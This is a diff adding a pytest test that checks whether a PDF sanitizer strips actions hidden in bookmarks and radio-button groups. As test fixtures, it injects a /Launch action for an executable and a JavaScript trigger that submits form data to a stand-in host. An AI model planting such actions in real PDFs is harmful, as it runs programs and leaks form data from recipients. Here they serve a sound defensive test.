@@ -118,6 +118,31 @@ def test_what_a_sender_added_is_gone_and_the_forms_own_scripts_stay(tmp_path: Pa
                    for a in p.get("/Annots", []))
 
 
+def test_actions_are_found_in_bookmarks_and_on_field_groups(tmp_path: Path) -> None:
+    """The places a viewer runs actions from besides the catalog, pages and page annotations."""
+    writer = PdfWriter(clone_from=PdfReader(RETURN))
+    root = writer._root_object
+    bookmark = writer._add_object(DictionaryObject({NameObject("/Title"): TextStringObject("Open me"),
+                                                    NameObject("/A"): action("/Launch", F=TextStringObject("x.exe"))}))
+    root[NameObject("/Outlines")] = writer._add_object(DictionaryObject({
+        NameObject("/Type"): NameObject("/Outlines"), NameObject("/First"): bookmark, NameObject("/Last"): bookmark}))
+    groups = 0
+    for field in (f.get_object() for f in root["/AcroForm"]["/Fields"]):
+        for kid in (k.get_object() for k in field.get("/Kids", [])):
+            if "/Kids" in kid and "/T" in kid:  # a radio group: its triggers live on the group
+                kid[NameObject("/AA")] = DictionaryObject({NameObject("/K"): action(
+                    "/JavaScript", JS=TextStringObject("this.submitForm('http://x.example');"))})
+                groups += 1
+    assert groups
+    path = tmp_path / "more.pdf"
+    writer.write(path)
+    assert {"/Launch"} <= set(scripts_and_actions(path.read_bytes())[1])
+
+    scripts, kinds = scripts_and_actions(stamp(path).pdf)
+    assert set(kinds) <= {"/JavaScript", "/GoTo"}
+    assert not any("submitForm" in s for s in scripts)
+
+
 def test_the_values_of_a_tampered_return_are_still_read(tmp_path: Path) -> None:
     assert read_form(tampered(tmp_path)).values == read_form(RETURN).values
 
